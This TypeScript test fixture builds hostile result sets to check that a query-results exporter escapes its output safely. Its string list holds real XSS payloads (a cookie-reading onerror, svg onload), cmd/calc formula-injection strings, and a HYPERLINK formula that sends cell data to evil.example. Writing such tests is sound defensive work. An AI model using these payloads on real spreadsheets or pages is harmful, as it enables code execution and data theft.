/**
 * A result made of attacker-controlled values: markup, spreadsheet formulas, CSV metacharacters,
 * control characters, bidi text, emoji, nulls, nested JSON, and hostile column names. Every
 * export test runs it through a writer and parses it back with an independent parser.
 */
import type { CellValue, ResultColumn, ResultSet } from '../../../src/core/results/resultSet';
import { kqlTypeOf } from '../../../src/core/results/resultSet';

const col = (name: string, rawType: string): ResultColumn => ({ name, rawType, type: kqlTypeOf(rawType) });

export const HOSTILE_STRINGS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=', '+', '-', '@', '-5', '+5', '@user',
  ' =1+1 (leading space)',
  'say "hi"', '"', '""', '"quoted"',
  'a,b', 'a;b', 'a\tb', ',leading comma', 'trailing comma,',
  'line1\r\nline2', 'line1\nline2', 'cr\ronly', '\n', '\r\n',
  'Ünïcödé ÆØÅ ß', 'שלום עולם', 'مرحبا بالعالم', '\u202Eexe.txt', '👩‍💻🔥 emoji', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢', 'zero\u200Bwidth',
  'nul\u0000byte', '\uFEFFbom inside',
  '  padded  ', '',
  "'already quoted",
];

const columns: ResultColumn[] = [
  col('Timestamp', 'DateTime'),
  col('Text', 'String'),
  col('Count', 'Int64'),
  col('Ratio', 'Double'),
  col('Flag', 'Boolean'),
  col('AdditionalFields', 'Object'),
  col('=HEADER()', 'String'),
  col('a,b "c"\r\nd', 'String'),
  col('Id', 'Guid'),
  col('Duration', 'TimeSpan'),
];

const dynamics: CellValue[] = [
  { a: { b: [1, 'x,"y"', null] }, '=k': '=v', html: '<b>bold</b>' },
  [1, 'two', { three: 3 }, [], {}],
  '=cmd|plain string in a dynamic column',
  -5,
  true,
  null,
  { emoji: '🔥', rtl: 'שלום', nl: 'a\r\nb' },
];

const numbers: CellValue[] = [-5, 0, 1.5e300, -0.0001, Number.MAX_SAFE_INTEGER, 42, null, '-5', '-5+cmd', '9223372036854775807', '+7'];

function row(i: number): CellValue[] {
  const s = HOSTILE_STRINGS[i % HOSTILE_STRINGS.length];
  return [
    i % 5 === 4 ? '2026-11-01T10:00:00+02:00' : i % 5 === 3 ? null : `2026-11-01T08:00:${String(i % 60).padStart(2, '0')}.1234567Z`,
    s,
    numbers[i % numbers.length],
    i % 4 === 0 ? -1.25 * i - 0.5 : i % 4 === 1 ? null : i / 7,
    i % 3 === 0 ? true : i % 3 === 1 ? false : null,
    dynamics[i % dynamics.length],
    HOSTILE_STRINGS[(i * 7 + 3) % HOSTILE_STRINGS.length],
    i % 2 ? s.toUpperCase() : null,
    `0000000${i % 10}-0000-0000-0000-000000000000`,
    i % 2 ? '-00:00:01.5000000' : '1.02:03:04',
  ];
}

/** Every hostile string appears in each string column at least twice. */
export function hostileResult(): ResultSet {
  const rows = Array.from({ length: HOSTILE_STRINGS.length * 3 }, (_, i) => row(i));
  return { columns, rows };
}

/** A big, ordinary-looking result (with some hostile cells mixed in) for the 100,000-row tests. */
export function bigResult(rowCount: number): ResultSet {
  const cols: ResultColumn[] = [
    col('Timestamp', 'DateTime'), col('DeviceName', 'String'), col('ActionType', 'String'), col('ProcessId', 'Int64'),
    col('Score', 'Double'), col('IsSigned', 'Boolean'), col('AdditionalFields', 'Object'), col('CommandLine', 'String'),
  ];
  const rows: CellValue[][] = [];
  for (let i = 0; i < rowCount; i++) {
    rows.push([
      new Date(Date.UTC(2026, 10, 1) + i * 1000).toISOString().replace('.000Z', '.0000000Z'),
      `device-${i % 1000}.contoso.com`,
      i % 97 === 0 ? HOSTILE_STRINGS[i % HOSTILE_STRINGS.length] : ['ProcessCreated', 'FileModified', 'ConnectionSuccess'][i % 3],
      i % 11 === 0 ? null : (i * 7919) % 65536 - 1000,
      i / 3,
      i % 2 === 0,
      i % 5 === 0 ? { Count: i, Tags: ['a', 'b,c'], Note: 'say "hi"' } : null,
      `"C:\\Windows\\System32\\cmd.exe" /c echo ${i}, done`,
    ]);
  }
  return { columns: cols, rows };
}
